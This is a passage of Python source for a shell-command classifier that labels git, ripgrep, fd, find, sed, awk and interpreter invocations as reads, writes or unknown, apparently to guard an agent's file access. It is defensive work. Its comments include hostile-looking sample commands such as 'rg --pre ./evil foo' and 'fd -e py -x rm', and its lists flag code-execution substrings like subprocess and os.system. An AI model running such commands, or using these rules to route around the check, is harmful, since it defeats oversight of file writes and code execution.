        out, skip = [], False
        for w in args:
            if skip:
                skip = False
            elif w.static and w.text in ("-e", "--exclude"):
                skip = True
            elif not (w.static and w.text.startswith("-")):
                out.append(w)
        return out
    return []


def _git_option_values(args: List[_W], options: Tuple[str, ...]) -> List[_W]:
    """The values of `-o X`, `-oX`, `--output X`, `--output=X` style options."""
    out = []
    for k, w in enumerate(args):
        for option in options:
            if w.text == option and k + 1 < len(args):
                out.append(args[k + 1])
            elif option.startswith("--") and w.text.startswith(option + "="):
                out.append(_w_tail(w, len(option) + 1))
            elif not option.startswith("--") and w.text.startswith(option) \
                    and len(w.text) > len(option) and not w.text.startswith("--"):
                out.append(_w_tail(w, len(option)))
    return out


def _format_patch_stdout(head: List[_W]) -> bool:
    """Whether --stdout really is an option of format-patch: right after an
    option that takes a value (`-v --stdout`, `--to --stdout`) it is that
    value, and the patches are written to files."""
    for k, w in enumerate(head):
        if w.text == "--stdout":
            prev = head[k - 1].text if k else ""
            if not prev.startswith("-") or prev == "-" or prev[1:].isdigit():
                return True
    return False


# `git help` options that only print (-w opens a browser, -i runs info: left out).
_GIT_HELP_FLAGS = frozenset(("-a", "--all", "-g", "--guides", "-c", "--config", "-m", "--man",
                             "--user-interfaces", "--developer-interfaces", "--verbose",
                             "--no-external-commands", "--no-aliases"))

# Subcommands whose -n/--dry-run only shows what they would do:
# sub -> (short flags in a cluster, long flags, options that take a value).
_GIT_DRY_RUNS: Dict[str, Tuple[str, Tuple[str, ...], Tuple[str, ...]]] = {
    "clean": ("ndxXqf", ("--dry-run", "--quiet", "--force"), ("-e", "--exclude")),
    "add": ("nvfAu", ("--dry-run", "--verbose", "--force", "--all", "--update", "--no-all",
                      "--ignore-removal", "--no-ignore-removal", "--ignore-errors",
                      "--ignore-missing", "--sparse"), ()),
    "rm": ("nrfq", ("--dry-run", "--cached", "--quiet", "--force", "--ignore-unmatch",
                    "--sparse"), ()),
    "mv": ("nfkv", ("--dry-run", "--force", "--verbose", "--sparse"), ()),
}


def _git_help(args: List[_W]) -> _V:
    """`git help [name]` prints or shows a manual page, like `git log` shows its pager."""
    names = 0
    for w in args:
        if not w.static:
            return _unknown("shell_syntax_unproven", "opaque", w.text)
        if w.text.startswith("-"):
            if w.text not in _GIT_HELP_FLAGS:
                return _unknown("git_arguments_unproven", "option", w.text)
        else:
            names += 1
    return _an_read() if names <= 1 else _unknown("git_arguments_unproven", "git", "help")


def _git_dry_run(sub: str, args: List[_W]) -> bool:
    """Whether this add/rm/mv/clean only shows what it would do (-n or --dry-run)."""
    flags, longs, valued = _GIT_DRY_RUNS[sub]
    dry = False
    i, n = 0, len(args)
    while i < n:
        w = args[i]
        i += 1
        if not w.static or w.glob:
            return False   # may turn into an option such as -i (interactive)
        t = w.text
        if t == "--":
            break
        if not t.startswith("-") or t == "-":
            continue
        if t.startswith("--"):
            key = t.split("=", 1)[0]
            if key in valued:
                i += 0 if "=" in t else 1
                continue
            if t not in longs:
                return False
            dry = dry or t == "--dry-run"
            continue
        for k, ch in enumerate(t[1:], 1):
            if "-" + ch in valued:
                i += 0 if t[k + 1:] else 1
                break
            if ch not in flags:
                return False
            dry = dry or ch == "n"
    return dry and i <= n


def _git(name: str, args: List[_W], ctx: _Ctx) -> _V:
    i, n = 0, len(args)
    folders: List[_W] = []
    while i < n:
        w = args[i]
        if not w.static:
            return _unknown("shell_syntax_unproven")
        t = w.text
        if t in _GIT_GLOBAL_FLAGS:
            i += 1
        elif t == "-C":
            if i + 1 >= n:
                return _unknown("option_value_missing")
            folders.append(args[i + 1])     # git works (and writes) from there
            i += 2
        elif t.startswith("-C"):
            folders.append(_lit(t[2:]))     # -Cdir, the same as -C dir
            i += 1
        elif t in ("--version", "-v", "--help", "-h"):
            return _an_read() if i + 1 == n else _unknown("git_arguments_unproven")
        else:
            break
    if i >= n:
        return _unknown("git_arguments_unproven")
    split = next((w for w in folders if _may_split(w)), None)
    return _unsplit(_in_dir(_git_command(args[i].text, args[i + 1:]), folders), split)


def _git_command(sub: str, rest: List[_W]) -> _V:
    if sub.startswith("-"):
        return _unknown("git_arguments_unproven", "gitglobal", sub)
    if len(rest) == 1 and rest[0].static and rest[0].text in ("--help", "-h") \
            and sub in _GIT_KNOWN_SUBS:
        return _an_read()   # usage, or `git help SUB`; an alias never shadows a builtin
    if sub == "help":
        return _git_help(rest)
    if sub in _GIT_DRY_RUNS and _git_dry_run(sub, rest):
        return _an_read()
    if sub == "bisect" and [w.text for w in rest] == ["log"]:
        return _an_read()
    if sub in _GIT_WRITE_SUBS:
        # A path git removes (rm, mv, clean) goes with everything under it.
        v = _write(_git_targets(sub, rest), tree=sub in ("rm", "mv", "clean")).blame("git", sub)
        if sub in ("clean", "stash") and not v.targets and not v.pending and (
                sub == "clean" or any(w.text in ("-u", "--include-untracked", "-a", "--all")
                                      for w in rest)):
            # Untracked files anywhere below the working folder go away.
            v.add(".", tree=True)
        return v
    if sub in _GIT_REV_SUBS:
        v = _git_rev(rest)
    elif sub in _GIT_SIMPLE_LONG:
        v = _git_simple(sub, rest)
    elif sub == "branch":
        v = _git_branch(rest)
    elif sub == "tag":
        v = _git_tag(rest)
    elif sub == "config":
        v = _git_config(rest)
    elif sub == "stash":
        v = _git_stash(rest)
    elif sub in _GIT_READ_ACTIONS:
        v = _git_action(sub, rest)
    elif sub == "hash-object":
        v = _git_hash_object(rest)
        v.hash = True   # it computes the object's digest, whether or not it stores it
    elif sub == "format-patch":
        # --stdout prints the patches, but the diff options still apply:
        # `--stdout --output=f` truncates f before git refuses the pair.
        head = rest[:next((k for k, w in enumerate(rest) if w.text == "--"), len(rest))]
        if _format_patch_stdout(head):
            v = _git_rev([w for w in rest if w.text != "--stdout"])
        else:
            # The patches land in -o DIR, else in the working folder.
            v = _write(_git_option_values(rest, ("-o", "--output-directory")) or [_lit(".")])
    elif sub == "archive":
        if any(w.text.startswith(("--remote", "--exec")) for w in rest):
            v = _unknown("shell_execution_option")
        elif any(w.text.startswith(("--output", "-o")) for w in rest):
            v = _write(_git_option_values(rest, ("-o", "--output")))
            v.opaque = v.opaque or not (v.targets or v.pending)
        else:
            v = _unknown("git_arguments_unproven")
    elif sub == "bundle" and rest and rest[0].text == "create":
        v = _write(rest[1:2])
    elif sub == "symbolic-ref":
        v = _git_symbolic_ref(rest)
    else:
        return _unknown("git_arguments_unproven", "git", sub)
    if v.mut != "read" and v.why is None:
        v.why = ("git", sub)
    return v


# ---- ripgrep ----------------------------------------------------------------

# ripgrep takes options anywhere and ignores none it does not know (it
# fails on them), so its table is open: only the options that take a
# value matter, and the two that run programs.
#: read | rg -n --type py 'def main' src
#: read | rg -e foo -g '*.py' -C2
#: unknown =shell_execution_option | rg --pre ./evil foo
#: unknown =shell_execution_option | rg --hostname-bin=./evil foo
#: notread | rg -e $x a.txt
_RG = _Opts(
    "-efEmjgdtTABCMr: --regexp: --file: --pre-glob: --dfa-size-limit: --encoding: --engine: "
    "--max-count: --regex-size-limit: --threads: --glob: --iglob: --ignore-file: "
    "--max-depth: --max-filesize: --type: --type-not: --type-add: --type-clear: "
    "--after-context: --before-context: --color: --colors: --context: --context-separator: "
    "--field-context-separator: --field-match-separator: --hyperlink-format: --max-columns: "
    "--path-separator: --replace: --sort: --sortr: --generate: --pre? --hostname-bin?",
    runs="--pre --hostname-bin", open=True, abbrev=False)


# ---- find -------------------------------------------------------------------

_FIND_0 = frozenset(("-print", "-print0", "-prune", "-empty", "-true", "-false", "-depth",
                     "-mount", "-xdev", "-daystart", "-follow", "-noleaf", "-nouser", "-nogroup",
                     "-readable", "-writable", "-executable", "-quit", "-ls", "!", "-not", "-a",
                     "-and", "-o", "-or", ",", "(", ")", "-ignore_readdir_race",
                     "-noignore_readdir_race", "-d", "-s", "-x"))
_FIND_1 = frozenset(("-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex",
                     "-iregex", "-regextype", "-type", "-xtype", "-maxdepth", "-mindepth",
                     "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-newer",
                     "-anewer", "-cnewer", "-size", "-perm", "-user", "-group", "-uid", "-gid",
                     "-links", "-inum", "-samefile", "-lname", "-ilname", "-used", "-fstype",
                     "-printf", "-context", "-Bmin", "-Btime", "-Bnewer", "-files0-from"))
_FIND_WRITE = {"-delete": 0, "-fprint": 1, "-fprint0": 1, "-fls": 1, "-fprintf": 2}
_FIND_EXEC = frozenset(("-exec", "-execdir", "-ok", "-okdir"))


def _find(name: str, args: List[_W], ctx: _Ctx) -> _V:
    result = _V()
    i, n = 0, len(args)
    while i < n and args[i].static and args[i].text in ("-H", "-L", "-P"):
        i += 1
    start = i
    while i < n and not args[i].opaque and not args[i].text.startswith("-") \
            and args[i].text not in ("!", "(", ")", ","):
        i += 1   # starting points
    # -delete removes files under the starting points: those are its targets
    # (the self-protection check resolves them; "." when none is given).
    roots = list(args[start:i]) or [_lit(".")]
    items = _find_items(roots, args[i:])
    while i < n:
        w = args[i]
        i += 1
        if not w.static and not (w.glob and w.lead):
            return _unknown("shell_syntax_unproven", "opaque", w.text)
        t = w.text
        if t in _FIND_0:
            continue
        if t in _FIND_1 or (t.startswith("-newer") and len(t) == 8):
            if i >= n:
                return _unknown("option_value_missing")
            if args[i].opaque:
                return _unknown("shell_syntax_unproven")
            i += 1
            continue
        if t in _FIND_WRITE:
            k = _FIND_WRITE[t]
            target = [args[i]] if k and i < n else []
            if t == "-delete":
                target = list(items)
            result.join(_write(target).blame("option", t))
            i += k
            continue
        if t in _FIND_EXEC:
            j = i
            while j < n and not (args[j].static and args[j].text in (";", "+")):
                j += 1
            if j >= n:
                return _unknown("shell_syntax_unproven")
            # `{}` alone is each path found; inside a longer word it is unknown.
            found = items[0] if len(items) == 1 else _STDIN_ITEM
            payload = [(found if a.static and a.text == "{}" else
                        _STDIN_ITEM if "{}" in a.text else a) for a in args[i:j]]
            i = j + 1
            if not payload:
                return _unknown("shell_syntax_unproven")
            if not payload[0].static:
                return _unknown("shell_execution_option")
            inner = _payload(payload, ctx)
            if inner.mut == "unknown":
                inner.reason = "shell_execution_option"
            result.join(inner)
            continue
        return _unknown("shell_command_unproven", "option", t)
    return result


def _find_items(roots: List[_W], expr: List[_W]) -> List[_W]:
    """Words standing for every path find may report under each starting
    point: root/**, or root/**/NAME when the expression is one plain
    `-name NAME` test among tests that only narrow it further."""
    name = None
    texts = [w.text for w in expr]
    if texts.count("-name") == 1 and not any(t in ("-o", "-or", ",", "!", "-not", "-iname",
                                                   "(") for t in texts):
        k = texts.index("-name")
        if k + 1 < len(expr) and expr[k + 1].static and "/" not in texts[k + 1]:
            name = texts[k + 1]
    tail = "**/" + name if name is not None else "**"
    return [_w_join(root, tail, pattern=True) for root in roots]


# fd runs a program with -x/--exec and -X/--exec-batch; its other options
# only choose what it lists (the table is open).
#: read | fd -e py -t f src
#: read | fdfind -H -g "*.md"
#: unknown =shell_execution_option | fd -e py -x rm
#: unknown =shell_execution_option | fd -HX rm
_FD = _Opts("-xX? --exec? --exec-batch?", runs="-x -X --exec --exec-batch", open=True)


# ---- sed --------------------------------------------------------------------

def _sed_script(script: str) -> Tuple[str, List[str]]:
    """Judge a sed script: ('read'|'write'|'exec'|'unknown', files written)."""
    s, n = script, len(script)
    i = 0
    written: List[str] = []
    verdict = "read"

    def skip_ws(j: int) -> int:
        while j < n and s[j] in " \t":
            j += 1
        return j

    def regex_end(j: int, delim: str) -> int:
        while j < n:
            if s[j] == "\\":
                j += 2
                continue
            if s[j] == delim:
                return j
            if s[j] == "\n":
                return -1
            j += 1
        return -1

    def address(j: int) -> int:
        if j < n and s[j].isdigit():
            while j < n and (s[j].isdigit() or s[j] == "~"):
                j += 1
        elif j < n and s[j] == "$":
            j += 1
        elif j < n and s[j] in "/\\":
            delim = "/"
            if s[j] == "\\":
                if j + 1 >= n:
                    return -1
                delim = s[j + 1]
                j += 1
            end = regex_end(j + 1, delim)
            if end < 0:
                return -1
            j = end + 1
            while j < n and s[j] in "IM":
                j += 1
        return j

    while True:
        i = skip_ws(i)
        while i < n and s[i] in ";\n \t":
            i += 1
        if i >= n:
            return verdict, written
        if s[i] == "#":
            while i < n and s[i] != "\n":
                i += 1
            continue
        j = address(i)
        if j < 0:
            return "unknown", written
        if j > i and j < n and s[j] == ",":
            k = j + 1
            if k < n and s[k] in "+~":
                k += 1
                while k < n and s[k].isdigit():
                    k += 1
                j = k
            else:
                j = address(k)
                if j < 0 or j == k:
                    return "unknown", written
        j = skip_ws(j)
        if j < n and s[j] == "!":
            j = skip_ws(j + 1)
        if j >= n:
            return "unknown", written
        c = s[j]
        j += 1
        if c in "{}":
            i = j
            continue
        if c in "pPlLqQdDnNgGhHxz=F":
            while j < n and (s[j].isdigit() or s[j] in " \t"):
                j += 1
        elif c in "btT:":
            # GNU sed ends a label at whitespace and reads what follows as the
            # next command (`:a w f` writes f), so the label is one word and
            # anything after it but `;`/newline fails the check below.
            j = skip_ws(j)
            while j < n and s[j] not in " \t;\n":
                j += 1
        elif c in "aic":
            while j < n and s[j] != "\n":
                j += 2 if s[j] == "\\" else 1
        elif c in "rR":
            while j < n and s[j] != "\n":
                j += 1
        elif c in "wW":
            start = skip_ws(j)
            while j < n and s[j] != "\n":
                j += 1
            written.append(s[start:j])
            verdict = "write"
        elif c == "e":
            return "exec", written
        elif c in "sy":
            if j >= n or s[j] in "\n\\":
                return "unknown", written
            delim = s[j]
            end1 = regex_end(j + 1, delim)
            end2 = regex_end(end1 + 1, delim) if end1 >= 0 else -1
            if end2 < 0:
                return "unknown", written
            j = end2 + 1
            if c == "s":
                while j < n and (s[j] in "gpiImM" or s[j].isdigit()):
                    j += 1
                if j < n and s[j] == "e":
                    return "exec", written
                if j < n and s[j] == "w":
                    start = skip_ws(j + 1)
                    j = start
                    while j < n and s[j] != "\n":
                        j += 1
                    written.append(s[start:j])
                    verdict = "write"
        else:
            return "unknown", written
        j = skip_ws(j)
        if j < n and s[j] not in ";\n}#":
            return "unknown", written
        i = j


_SED_SPEC = _Opts(
    "-nrEsuz -elf: --quiet --silent --expression: --file: --in-place? --line-length: "
    "--null-data --zero-terminated --regexp-extended --separate --sandbox --unbuffered "
    "--posix --debug --follow-symlinks --help --version --binary")


def _sed(name: str, args: List[_W], ctx: _Ctx) -> _V:
    # -i takes an optional attached suffix, so handle it before the generic walk.
    inplace = ""    # the -i word as written
    rest: List[_W] = []
    for w in args:
        t = w.text
        if w.static and t.startswith("-") and not t.startswith("--") and "i" in t[1:]:
            head = t[1:t.index("i", 1)]
            if all(ch in "nrEsuz" for ch in head):
                inplace = t
                if head:
                    rest.append(_lit("-" + head))
                continue
        if w.static and t.startswith("--") and len(t) > 2:
            key = t[2:].split("=", 1)[0]
            if key and "in-place".startswith(key) and not "file".startswith(key):
                inplace = t
                continue
        rest.append(w)
    fail, operands, seen = _read_options(rest, _SED_SPEC)
    scripts = [v for o, v, _ in seen if o in ("e", "expression")]
    if inplace and fail is not None:
        # The walk stopped at a word it cannot read (`sed -i s/a/b/ *.py`):
        # every word that is not an option is a file sed may rewrite.
        files = [w for w in rest if not (w.static and w.text.startswith("-"))]
        v = _write(files[0 if scripts else 1:]).blame("inplace", inplace)
        v.opaque = any(_may_be_option(w, ctx) for w in rest)
        return v
    if any(o in ("f", "file") for o, _, _ in seen):
        spelled = next((w.text for w in rest if w.text.startswith(("-f", "--f"))), "-f")
        return _unknown("shell_command_unproven", "script_file", spelled)
    if not scripts:
        if fail is not None and not inplace:
            return fail
        if not operands:
            return _unknown("shell_syntax_unproven") if not inplace \
                else _write().blame("inplace", inplace)
        scripts = [operands[0]]
        operands = operands[1:]
    if inplace:
        return _write(operands).blame("inplace", inplace)
    if fail is not None:
        return fail
    verdict = "read"
    written: List[str] = []
    for script in scripts:
        if script is None or not script.static:
            return _unknown("shell_syntax_unproven")
        kind, files = _sed_script(script.text)
        written.extend(files)
        if kind == "exec":
            return _unknown("shell_execution_option", "sed_script", script.text)
        if kind == "unknown":
            return _unknown()
        if kind == "write":
            verdict = "write"
    if verdict == "write":
        return _write([f for f in written if f and f not in _DEV_SINKS]).blame(
            "sed_script", scripts[0].text if scripts[0] is not None else "")
    return _an_read()


# ---- awk --------------------------------------------------------------------

# Characters after which a '/' can only open a regex literal in awk; after
# anything else (an operand, ')', a keyword) it may be a division, and then
# nothing is blanked, which only shows more text to the checks below.
_AWK_RE_START = "(,~!{;&|\n"
# A newline right after one of these does not end an awk statement.
_AWK_CONTINUES = ",&|?:({"


def _awk_regex_end(code: str, j: int) -> int:
    """Index of the '/' closing a regex literal whose body starts at j, or -1.

    gawk and mawk read a '/' inside a bracket expression as part of it, BWK
    awk ends the regex there; such a regex, a newline or a missing end is
    refused so that every awk agrees with what gets blanked.
    """
    n = len(code)
    while j < n:
        c = code[j]
        if c == "\\":
            j += 2
            continue
        if c == "\n":
            return -1
        if c == "/":
            return j
        if c == "[":
            j += 1
            if j < n and code[j] == "^":
                j += 1
            if j < n and code[j] == "]":
                j += 1      # a leading ']' is a member, not the end
            while j < n and code[j] != "]":
                if code[j] in "/\n":
                    return -1
                if code[j] == "[" and j + 1 < n and code[j + 1] in ":.=":
                    close = code.find(code[j + 1] + "]", j + 2)
                    if close < 0 or "/" in code[j:close] or "\n" in code[j:close]:
                        return -1
                    j = close + 2
                    continue
                j += 2 if code[j] == "\\" else 1
            if j >= n:
                return -1
        j += 1
    return -1


def _awk_blank(code: str) -> Optional[str]:
    """The program with strings, regex literals, comments and line
    continuations blanked, in one pass as awk's lexer reads it; None when
    unsure (a string running over a line, an unclosed literal)."""
    out: List[str] = []
    prev = ""
    i, n = 0, len(code)
    while i < n:
        c = code[i]
        if c == "\\" and i + 1 < n and code[i + 1] == "\n":
            i += 2          # continuation: the next line is the same statement
            continue
        if c == "#":
            while i < n and code[i] != "\n":
                i += 1
            continue
        if c == '"':
            j = i + 1
            while j < n and code[j] != '"':
                if code[j] == "\n":
                    return None
                j += 2 if code[j] == "\\" else 1
            if j >= n:
                return None
            out.append('""')
            prev = '"'
            i = j + 1
            continue
        if c == "/" and (prev == "" or prev in _AWK_RE_START):
            end = _awk_regex_end(code, i + 1)
            if end < 0:
                return None
            out.append("//")
            prev = "/"
            i = end + 1
            continue
        out.append(c)
        if c not in " \t":
            prev = c
        i += 1
    return "".join(out)


def _awk_program(code: str) -> str:
    """'read', 'write' (print/printf redirected to a file) or 'unknown'."""
    low = code.lower()
    for bad in ("system", "getline", "close", "fflush", "@", "extension", "load"):
        if bad in low:
            return "unknown"
    text = _awk_blank(code)
    if text is None:
        return "unknown"
    if "|" in text.replace("||", ""):
        return "unknown"
    if ">" not in text:
        return "read"
    # A '>' inside a print/printf statement (outside parentheses) redirects
    # output.  The statement ends at ';', '}' or a newline, except a newline
    # after ',', '&&', '||', '?', ':', '(' or '{', which awk reads on.
    for m in _an_rx("awkprint", r"(?<![A-Za-z0-9_$])printf?(?![A-Za-z0-9_])").finditer(text):
        depth = 0
        last = ""
        for ch in text[m.end():]:
            if ch in ";}" or (ch == "\n" and (last == "" or last not in _AWK_CONTINUES)):
                break
            if ch == "(":
                depth += 1
            elif ch == ")":
                depth -= 1
            elif ch == ">" and depth <= 0:
                return "write"
            if ch not in " \t\n":
                last = ch
    return "read"


def _awk_targets(code: str) -> Optional[List[str]]:
    """The files a print/printf redirection names with a string literal
    (`print > "out.txt"`); None when one is named any other way."""
    found: List[str] = []
    for m in _an_rx("awkprint", r"(?<![A-Za-z0-9_$])printf?(?![A-Za-z0-9_])").finditer(code):
        depth, j, n = 0, m.end(), len(code)
        while j < n and code[j] not in ";}\n":
            ch = code[j]
            if ch == '"':
                end = code.find('"', j + 1)
                j = n if end < 0 else end + 1
                continue
            if ch == "(":
                depth += 1
            elif ch == ")":
                depth -= 1
            elif ch == ">" and depth <= 0:
                k = j + 1 + (code[j + 1:j + 2] == ">")
                while k < n and code[k] in " \t":
                    k += 1
                end = code.find('"', k + 1) if code[k:k + 1] == '"' else -1
                after = end + 1
                while after < n and code[after] in " \t":
                    after += 1
                if end < 0 or "\\" in code[k + 1:end] or (after < n
                                                          and code[after] not in ";}\n"):
                    return None    # a name built at run time: "x/" $2
                found.append(code[k + 1:end])
                j = end + 1
                continue
            j += 1
    return found


def _awk(name: str, args: List[_W], ctx: _Ctx) -> _V:
    return _unsplit(*_awk_verdict(args))


def _awk_verdict(args: List[_W]) -> Tuple[_V, Optional[_W]]:
    i, n = 0, len(args)
    program: Optional[_W] = None
    split: Optional[_W] = None      # a -v or -F value that may split (_may_split)
    while i < n:
        w = args[i]
        if not w.static:
            return _unknown("shell_syntax_unproven"), split
        t = w.text
        if t == "--":
            i += 1
            break
        if t in ("-F", "-v"):
            if split is None and i + 1 < n and _may_split(args[i + 1]):
                split = args[i + 1]
            i += 2
            continue
        if t.startswith(("-F", "-v")) and len(t) > 2:
            i += 1
            continue
        if t in ("--version", "-V", "--help"):
            return _an_read(), split
        if t.startswith("-"):
            # -f progfile, -i include, -E, --exec ...
            return _unknown("shell_command_unproven",
                            "script_file" if t.startswith(("-f", "-E", "-i", "--exec")) else
                            "option", t), split
        break
    if i >= n:
        return _unknown("shell_syntax_unproven"), split
    program = args[i]
    if not program.static:
        return _unknown("shell_syntax_unproven"), split
    kind = _awk_program(program.text)
    if kind == "write":
        targets = _awk_targets(program.text)
        v = _write(targets or []).blame("awk", program.text,
                                        "writes a file from inside the program")
        v.opaque = targets is None
        return v, split
    if kind == "unknown":
        return _unknown("interpreter_code", "awk", program.text,
                        "runs a command or reads one from inside the program"), split
    return _an_read(), split


# ---- interpreters -----------------------------------------------------------

_CODE_WRITES = ("open(", ".write", "write_text", "write_bytes", "remove(", "unlink", "rmtree",
                "rename(", "shutil.", "writefile", "appendfile", "rmsync", "mkdir", "fs.rm",
                "subprocess", "os.system", "child_process", "exec(", "spawn", "file.write",
                "fileutils", "system(", "`")


# Inline code, per language: the pseudo path the hash detector reads the code
# as, and the options that take code.  A cluster (`-Ic`, `perl -le`) or an
# attached value (`-c'...'`, `--eval=...`) counts as the option too.
_INLINE_CODE: Dict[str, Tuple[str, Tuple[str, ...]]] = {
    "python": ("x.py", ("-c",)), "node": ("x.js", ("-e", "--eval", "-p", "--print")),
    "perl": ("x.pl", ("-e", "-E")), "ruby": ("x.rb", ("-e",)), "php": ("x.php", ("-r",)),
    "deno": ("x.ts", ("eval",)), "bun": ("x.js", ("-e", "--eval", "-p", "--print")),
    "r": ("x.r", ("-e",)), "julia": ("x.jl", ("-e", "--eval", "-E", "--print")),
    "elixir": ("x.exs", ("-e", "--eval")), "erl": ("x.erl", ("-eval",)),
    "lua": ("x.lua", ("-e",)), "groovy": ("x.groovy", ("-e",)), "scala": ("x.scala", ("-e",)),
    "kotlin": ("x.kts", ("-e",)), "osascript": ("x.js", ("-e",)),
    "racket": ("x.rkt", ("-e", "--eval")), "guile": ("x.scm", ("-c",)),
    "clojure": ("x.clj", ("-e", "--eval")), "sbcl": ("x.lisp", ("--eval",)),
    "psql": ("x.sql", ("-c", "--command")), "mysql": ("x.sql", ("-e", "--execute")),
    "duckdb": ("x.sql", ("-c",)),
}
_INTERPRETERS = {
    "python": "python", "python3": "python", "python2": "python", "py": "python",
    "pypy": "python", "pypy3": "python", "node": "node", "nodejs": "node", "perl": "perl",
    "ruby": "ruby", "php": "php", "deno": "deno", "rscript": "r", "r": "r", "julia": "julia",
    "elixir": "elixir", "erl": "erl", "lua": "lua", "luajit": "lua", "groovy": "groovy",
    "scala": "scala", "kotlin": "kotlin", "osascript": "osascript", "racket": "racket",
    "guile": "guile", "clojure": "clojure", "clj": "clojure", "bb": "clojure", "sbcl": "sbcl",
    "psql": "psql", "mysql": "mysql", "duckdb": "duckdb",
}


def _code_option(texts: List[str], flags: Tuple[str, ...]) -> Optional[Tuple[int, Optional[str]]]:
    """Where inline code starts: (index of the option word, attached code or None)."""
    letters = "".join(f[1] for f in flags if len(f) == 2 and f[0] == "-")
    for k, t in enumerate(texts):
        if t == "--":
            return None
        if t in flags:
            return k, None
        for f in flags:
            if f.startswith("--") and t.startswith(f + "="):
                return k, t[len(f) + 1:]
        if letters and t.startswith("-") and not t.startswith("--") and len(t) > 2:
            for j, ch in enumerate(t[1:], 1):
                if ch in letters:
                    return k, t[j + 1:] or None
    return None


def _code_intents(v: _V, code: str, path: Optional[str]) -> _V:
    """Hash and dependency intent of code an interpreter is given."""
    text = code.replace("\0", " ")
    v.hash = v.hash or hash_intent_in_text(text, path)
    v.dep = v.dep or _code_dep_intent(text, v.mut == "write")
    return v


_JSON_TOOL_FLAGS = frozenset(("--sort-keys", "--no-ensure-ascii", "--json-lines", "--tab",
                              "--no-indent", "--compact", "-h", "--help"))


def _json_tool_operands(args: List[_W]) -> Optional[List[_W]]:
    """infile and outfile of `python -m json.tool` (--indent takes a value);
    None for an option it does not know."""
    ops, skip = [], False
    for w in args:
        if skip:
            skip = False
        elif w.text == "--indent":
            skip = True
        elif w.text.startswith("-") and w.text != "-":
            if w.text not in _JSON_TOOL_FLAGS and not w.text.startswith("--indent="):
                return None
        else:
            ops.append(w)
    return ops


def _interp(lang: str) -> Callable[[str, List[_W], _Ctx], _V]:
    path, code_flags = _INLINE_CODE[lang]

    def handler(name: str, args: List[_W], ctx: _Ctx) -> _V:
        texts = [w.text for w in args]
        if len(args) == 1 and (texts[0] in ("--version", "-V", "-v", "version")
                               or texts[0] in _VERSION_WORDS.get(name, ())):
            return _an_read()
        isolated = False
        if lang == "python":
            # -I (isolated) and -P (3.11+) keep the working folder off the
            # import path; without them `-m json.tool` imports json, argparse
            # and the rest from ./json/, ./argparse.py... first.
            k = 0
            while k < len(texts) and len(texts[k]) > 1 and texts[k][0] == "-" \
                    and all(ch in "IPEsSBuq" for ch in texts[k][1:]):
                isolated = isolated or "I" in texts[k] or "P" in texts[k]
                k += 1
            if k and k + 1 < len(texts) and texts[k] == "-m":
                args, texts = args[k:], texts[k:]
        if lang == "python" and len(args) >= 2 and texts[0] == "-m":
            mod = texts[1]
            if not isolated and mod in ("json.tool", "pip"):
                if mod == "pip":
                    v = _pip("pip", args[2:], ctx)
                    return _unknown("repository_code") if v.mut == "read" else v
                ops = _json_tool_operands(args[2:])
                if ops is not None and len(ops) >= 2:
                    return _write([ops[1]])
                return _unknown("repository_code")
            if mod == "json.tool" and all(w.static for w in args[2:]):
                ops = _json_tool_operands(args[2:])
                if ops is None:
                    return _unknown()
                if len(ops) >= 2:
                    return _write([ops[1]])
                return _an_read() if all(w.static and not w.glob for w in args[2:]) else _unknown()
            if mod == "pip":
                return _pip("pip", args[2:], ctx)
            if mod in ("pipx", "uv", "poetry", "pdm", "conda"):
                return _PROGRAMS[mod](mod, args[2:], ctx)
            if mod in ("venv", "ensurepip"):
                return _write()
            return _unknown()
        if lang == "perl" and any(t.startswith("-") and not t.startswith("--") and "i" in t
                                  and not t.startswith(("-I", "-e", "-M", "-m")) for t in texts):
            ops = [w for w in args if not w.text.startswith("-")]
            return _code_intents(_write(ops[1:] if ops else []), " ".join(texts), path)
        if lang == "deno" and texts[:1] and texts[0] in _PM_VERBS["deno"]:
            return _pm_table("deno", args, ctx)
        if lang == "deno" and texts[:1] == ["run"] and any(
                t.startswith(("npm:", "jsr:", "http://", "https://")) for t in texts[1:]):
            return _V("unknown", "shell_command_unproven", dep=True)   # a registry package
        if lang == "r" and texts[:2] == ["CMD", "INSTALL"]:
            return _V("write", dep=True)
        found = _code_option(texts, code_flags)
        if found is None:
            return _unknown()
        k, attached = found
        if attached is None and k + 1 >= len(texts):
            return _unknown("option_value_missing")
        code = _lit(attached) if attached is not None else args[k + 1]
        v = _unknown("interpreter_code")
        if code.static:
            low = code.text.lower()
            if any(p in low for p in _CODE_WRITES) and ("'w" in low or '"w' in low
                                                        or "'a" in low or '"a' in low
                                                        or "write" in low or "unlink" in low
                                                        or "remove" in low or "rm" in low):
                v = _write()
        # Every argument is read for intent: `perl -MDigest::SHA -e ...` names
        # its module outside the code, and arguments after it reach the code.
        return _code_intents(v, " ".join(texts), path)
    return handler


# ---- Python inline code proven read-only with `ast` -------------------------
# `python3 -I -c CODE` (or -P, or a here-document on stdin) is a read when
# CODE parses and keeps to a small subset: literals, arithmetic,
# comprehensions, a few pure builtins, str/int/float/list/dict methods,
# json, math, sys.version and friends, platform queries, and reading a file
# named by a literal with `open(path)` or `open(path, "r")`.  Anything else
# stays unproven: other imports, attribute writes, exec/eval/getattr,
# dunders, lambdas, functions, classes, walrus, open() with another mode.
#
# -I or -P is required: without it Python puts the working folder first on
# the import path, so a `json.py` or `json/` there decides what `import json`
# runs, and Python 3.13 imports `linecache` (and `traceback`) from it for
# any -c code, `pass` included.  The ast module loads only when such code is seen.

_PY_SAFE_CALLS: Dict[str, Tuple[str, ...]] = {
    # builtin -> keyword arguments it may take ("*": any name, values still checked)
    "print": ("sep", "end", "flush"), "len": (), "sorted": ("key", "reverse"),
    "sum": ("start",), "min": ("key", "default"), "max": ("key", "default"), "range": (),
    "str": ("object", "encoding", "errors"), "int": ("base",), "float": (), "bool": (),
    "complex": (), "list": (), "tuple": (), "dict": ("*",), "set": (), "frozenset": (),
    "abs": (), "round": ("ndigits",), "enumerate": ("start",), "zip": ("strict",),
    "reversed": (), "any": (), "all": (), "repr": (), "ascii": (), "chr": (), "ord": (),
    "hex": (), "oct": (), "bin": (), "divmod": (), "pow": (), "isinstance": (), "map": (),
    "filter": (), "iter": (), "next": (), "slice": (), "bytes": (), "bytearray": (),
    "format": (), "callable": (), "open": ("mode", "encoding", "errors", "newline"),
    "Exception": (), "ValueError": (), "KeyError": (), "IndexError": (), "TypeError": (),
    "OSError": (), "FileNotFoundError": (), "ZeroDivisionError": (), "AttributeError": (),
